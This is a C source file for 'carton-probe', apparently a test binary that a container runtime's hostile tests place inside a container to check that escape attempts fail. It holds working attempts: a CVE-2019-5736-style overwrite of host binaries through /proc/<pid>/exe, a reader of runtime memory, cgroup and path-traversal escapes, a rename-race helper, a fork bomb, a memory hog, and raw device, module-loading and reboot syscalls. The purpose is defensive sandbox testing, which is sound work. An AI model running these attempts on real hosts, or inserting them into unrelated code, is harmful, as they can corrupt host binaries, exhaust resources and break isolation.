/*
 * carton-probe: one static binary the hostile tests copy into a container's
 * rootfs. Each sub-command attempts one thing an attacker would try and prints
 * one line per attempt, "<what> ok" or "<what> errno=<NAME>", so the tests
 * assert the exact refusal instead of guessing from a shell's wording.
 * Built at test time: gcc -static -O1 -o carton-probe probe.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/perf_event.h>
#include <netinet/in.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif

static int report(const char *what, long rc)
{
	if (rc < 0)
		printf("%s errno=%s\n", what, strerrorname_np(errno));
	else
		printf("%s ok\n", what);
	fflush(stdout);
	return 0;
}

/* Open for writing and, when that works, write: both steps are reported. */
static int try_write(const char *path, const char *data)
{
	char what[PATH_MAX + 16];
	int fd = open(path, O_WRONLY);
	snprintf(what, sizeof what, "open-w %s", path);
	report(what, fd);
	if (fd < 0)
		return 0;
	ssize_t n = write(fd, data, strlen(data));
	snprintf(what, sizeof what, "write %s", path);
	report(what, n);
	close(fd);
	return 0;
}

/* Read up to 64 bytes and print how many came back (a masked file gives 0). */
static int try_read(const char *path)
{
	char what[PATH_MAX + 16], buf[64];
	int fd = open(path, O_RDONLY);
	snprintf(what, sizeof what, "open-r %s", path);
	report(what, fd);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, buf, sizeof buf);
	if (n < 0)
		printf("read %s errno=%s\n", path, strerrorname_np(errno));
	else
		printf("read %s bytes=%zd\n", path, n);
	close(fd);
	return 0;
}

static int list_dir(const char *path)
{
	DIR *d = opendir(path);
	if (!d)
		return report("opendir", -1);
	int n = 0;
	struct dirent *e;
	while ((e = readdir(d)))
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
			n++;
	printf("entries %s %d\n", path, n);
	closedir(d);
	return 0;
}

/* Every open fd but the one opendir uses to list them. */
static int list_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (!d)
		return report("opendir /proc/self/fd", -1);
	int self = dirfd(d);
	struct dirent *e;
	printf("fds");
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.' || atoi(e->d_name) == self)
			continue;
		char p[64], t[PATH_MAX] = "";
		snprintf(p, sizeof p, "/proc/self/fd/%s", e->d_name);
		ssize_t n = readlink(p, t, sizeof t - 1);
		t[n > 0 ? n : 0] = 0;
		printf(" %s=%s", e->d_name, t);
	}
	printf("\n");
	closedir(d);
	return 0;
}

/* Where the cwd is, and whether climbing out of it reaches a host-only file. */
static int cwd_escape(const char *host_rel)
{
	char buf[PATH_MAX];
	if (getcwd(buf, sizeof buf))
		printf("cwd %s\n", buf);
	else
		printf("cwd errno=%s\n", strerrorname_np(errno));
	char rel[PATH_MAX] = "";
	for (int i = 0; i < 24; i++)
		strcat(rel, "../");
	strcat(rel, host_rel);
	int fd = open(rel, O_RDONLY);
	if (fd < 0) {
		printf("host-file errno=%s\n", strerrorname_np(errno));
	} else {
		ssize_t n = read(fd, buf, sizeof buf - 1);
		buf[n > 0 ? n : 0] = 0;
		printf("host-file content=%s\n", buf);
	}
	return 0;
}

/*
 * CVE-2019-5736 style: for `seconds`, open /proc/<pid>/exe of every process
 * whose binary is not the container's own (its exe path is not reachable in our
 * root) for writing — directly and by re-opening an O_PATH handle after the
 * process is gone — and write to what opens. Prints each exe seen and each open.
 */
static int exe_attack(int seconds)
{
	time_t end = time(NULL) + seconds;
	int held[256], nheld = 0;
	char seen[64][128];
	int nseen = 0, reported_reopen = 0, reported_write = 0, reported_denied = 0;
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			char p[64], t[PATH_MAX] = "";
			snprintf(p, sizeof p, "/proc/%d/exe", pid);
			ssize_t n = readlink(p, t, sizeof t - 1);
			if (n <= 0) {
				/* a process we may not inspect: the runtime's non-dumpable init */
				if (errno == EACCES || errno == EPERM) {
					if (!reported_denied++)
						printf("denied /proc/%d/exe errno=%s\n", pid, strerrorname_np(errno));
					/* nor may it be traced, to read or poke its memory */
					/* nor may its memory be read: process_vm_readv makes the same
					 * access check as PTRACE_ATTACH without stopping anything.
					 * EFAULT means the check passed (the address is just unmapped). */
					char byte;
					struct iovec l = { &byte, 1 }, r = { (void *)0x10000, 1 };
					if (process_vm_readv(pid, &l, 1, &r, 1, 0) >= 0 || errno == EFAULT) {
						/* granted: fine only if it has already become a container binary
						 * (execve makes a process dumpable again, like under runc) */
						char t2[PATH_MAX] = "";
						ssize_t n2 = readlink(p, t2, sizeof t2 - 1);
						t2[n2 > 0 ? n2 : 0] = 0;
						/* /bin/carton-evil is "#!/proc/self/exe": a container process that
						 * exec'd it runs the sealed init image as itself, dumpable as any
						 * container process — its own memory, not the runtime's. */
						char cmd[256] = "";
						snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
						int cfd = open(p, O_RDONLY);
						ssize_t cn = cfd >= 0 ? read(cfd, cmd, sizeof cmd - 1) : -1;
						if (cfd >= 0)
							close(cfd);
						for (ssize_t i = 0; i < cn; i++)
							if (!cmd[i])
								cmd[i] = ' ';
						cmd[cn > 0 ? cn : 0] = 0;
						snprintf(p, sizeof p, "/proc/%d/exe", pid);
						if (n2 > 0 && access(t2, F_OK) == 0 && strncmp(t2, "/memfd:", 7))
							;
						else if (strstr(cmd, "carton-evil"))
							;
						else if (cn <= 0)
							; /* gone meanwhile (no memory left to name it): an evil-script
							   * process exits at once; nothing was read from a live init */
						else
							printf("memory-readable %d %s (%s)\n", pid, t2, cmd);
					}
				}
				continue;
			}
			t[n] = 0;
			if (access(t, F_OK) == 0 && strncmp(t, "/memfd:", 7))
				continue; /* a binary of the container itself */
			int known = 0;
			for (int i = 0; i < nseen; i++)
				known |= !strcmp(seen[i], t);
			if (!known && nseen < 64) {
				snprintf(seen[nseen++], 128, "%s", t);
				printf("seen %s\n", t);
			}
			int w = open(p, O_WRONLY);
			if (w >= 0) {
				printf("opened-w %s\n", t);
				if (write(w, "carton-pwned", 12) > 0)
					printf("wrote %s\n", t);
				close(w);
			} else if (errno != ETXTBSY && errno != ENOENT && errno != EACCES && errno != EPERM) {
				printf("open-w %s errno=%s\n", t, strerrorname_np(errno));
			}
			if (nheld < 256) {
				int h = open(p, O_PATH);
				if (h >= 0)
					held[nheld++] = h;
			}
		}
		if (d)
			closedir(d);
		for (int i = 0; i < nheld; i++) {
			char p[64];
			snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
			int w = open(p, O_WRONLY);
			if (w >= 0) {
				char t[PATH_MAX] = "";
				ssize_t n = readlink(p, t, sizeof t - 1);
				t[n > 0 ? n : 0] = 0;
				if (!reported_reopen++)
					printf("reopened-w %s\n", t);
				if (write(w, "carton-pwned", 12) > 0)
					printf("wrote %s\n", t);
				else if (!reported_write++)
					printf("write %s errno=%s\n", t, strerrorname_np(errno));
				close(w);
			}
		}
	}
	printf("done\n");
	return 0;
}

/* Fork until the kernel says no; children sleep so the bomb costs no CPU. */
static int fork_bomb(void)
{
	int made = 0;
	for (;;) {
		pid_t p = fork();
		if (p == 0) {
			pause();
			_exit(0);
		}
		if (p < 0) {
			printf("fork errno=%s after=%d\n", strerrorname_np(errno), made);
			fflush(stdout);
			pause();
			return 0;
		}
		made++;
	}
}

static int mem_hog(void)
{
	size_t total = 0;
	for (;;) {
		char *p = malloc(1 << 20);
		if (!p) {
			printf("malloc failed at %zu MiB\n", total >> 20);
			return 1;
		}
		memset(p, 0x5a, 1 << 20);
		total += 1 << 20;
		if ((total >> 20) % 16 == 0) {
			printf("hog %zu MiB\n", total >> 20);
			fflush(stdout);
		}
	}
}

/* Host-side helper for the CVE-2021-30465 race: exchange two names forever. */
static __attribute__((noreturn)) void swap_loop(const char *a, const char *b)
{
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
}

static int cgroup_escape(void)
{
	char pid[32];
	snprintf(pid, sizeof pid, "%d", getpid());
	DIR *d = opendir("/sys/fs/cgroup");
	struct dirent *e;
	while (d && (e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		char p[PATH_MAX];
		snprintf(p, sizeof p, "/sys/fs/cgroup/%s/cgroup.procs", e->d_name);
		if (access(p, F_OK) == 0)
			try_write(p, pid);
		snprintf(p, sizeof p, "/sys/fs/cgroup/%s/../%s/cgroup.procs", e->d_name, e->d_name);
		if (access(p, F_OK) == 0)
			try_write(p, pid);
	}
	if (d)
		closedir(d);
	try_write("/sys/fs/cgroup/cgroup.procs", pid);
	mkdir("/tmp/cg", 0700);
	report("mount-cgroup", mount("cgroup", "/tmp/cg", "cgroup", 0, "memory"));
	report("mount-cgroup2", mount("cgroup2", "/tmp/cg", "cgroup2", 0, NULL));
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	const char *op = argc > 1 ? argv[1] : "";
	const char *a = argc > 2 ? argv[2] : "";
	const char *b = argc > 3 ? argv[3] : "";
	if (!strcmp(op, "write"))
		return try_write(a, b);
	if (!strcmp(op, "read"))
		return try_read(a);
	if (!strcmp(op, "ls"))
		return list_dir(a);
	if (!strcmp(op, "fds"))
		return list_fds();
	if (!strcmp(op, "cwd-escape"))
		return cwd_escape(a);
	if (!strcmp(op, "exe-attack"))
		return exe_attack(atoi(a));
	if (!strcmp(op, "fork-bomb"))
		return fork_bomb();
	if (!strcmp(op, "mem-hog"))
		return mem_hog();
	if (!strcmp(op, "swap"))
		swap_loop(a, b);
	if (!strcmp(op, "cgroup-escape"))
		return cgroup_escape();
	if (!strcmp(op, "syscall")) {
		/* syscall NR [ARG...]: one raw call, the arguments as full 64-bit values (strtoull base 0) */
		unsigned long long v[6] = { 0 };
		for (int i = 0; i < 6 && 3 + i < argc; i++)
			v[i] = strtoull(argv[3 + i], NULL, 0);
		char what[64];
		snprintf(what, sizeof what, "syscall-%s", a);
		return report(what, syscall(atol(a), v[0], v[1], v[2], v[3], v[4], v[5]));
	}
	if (!strcmp(op, "sleep")) {
		for (;;)
			pause();
	}
	if (!strcmp(op, "syscalls")) {
		mkdir("/tmp/mnt", 0700);
		report("mount", mount("tmpfs", "/tmp/mnt", "tmpfs", 0, NULL));
		report("unshare-user", unshare(CLONE_NEWUSER));
		report("unshare-mount", unshare(CLONE_NEWNS));
		long c = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
		if (c == 0)
			_exit(0);
		if (c > 0)
			waitpid(c, NULL, 0);
		report("clone-newuser", c);
		/* argv[3] = "major:minor" of the host's root disk: the node may be made, never opened */
		unsigned maj = 8, min = 0;
		sscanf(b, "%u:%u", &maj, &min);
		unlink("/tmp/carton-blk");
		report("mknod-block", mknod("/tmp/carton-blk", S_IFBLK | 0600, makedev(maj, min)));
		report("open-block", open("/tmp/carton-blk", O_RDONLY));
		unlink("/tmp/carton-mem");
		report("mknod-char-mem", mknod("/tmp/carton-mem", S_IFCHR | 0600, makedev(1, 1)));
		report("open-char-mem", open("/tmp/carton-mem", O_RDONLY));
		static const char img[64];
		report("init_module", syscall(SYS_init_module, img, sizeof img, ""));
		int fd = open("/bin/busybox", O_RDONLY);
		report("finit_module", syscall(SYS_finit_module, fd, "", 0));
		report("ptrace-host-pid", ptrace(PTRACE_ATTACH, atoi(a), 0, 0));
		report("socket-vsock", socket(AF_VSOCK, SOCK_STREAM, 0));
		report("socket-raw", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
		report("add_key", syscall(SYS_add_key, "user", "carton", "x", 1, -3 /* session */));
		report("keyctl", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3, 0));
		static char attr[128];
		report("bpf", syscall(SYS_bpf, 0 /* MAP_CREATE */, attr, sizeof attr));
		struct perf_event_attr pe = { .type = PERF_TYPE_SOFTWARE, .size = sizeof pe, .config = PERF_COUNT_SW_CPU_CLOCK };
		report("perf_event_open", syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
		report("setns", setns(0, 0));
		report("swapon", syscall(SYS_swapon, "/tmp", 0));
		report("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0x1234567, NULL));
		return 0;
	}
	fprintf(stderr, "carton-probe: unknown op '%s'\n", op);
	return 2;
}
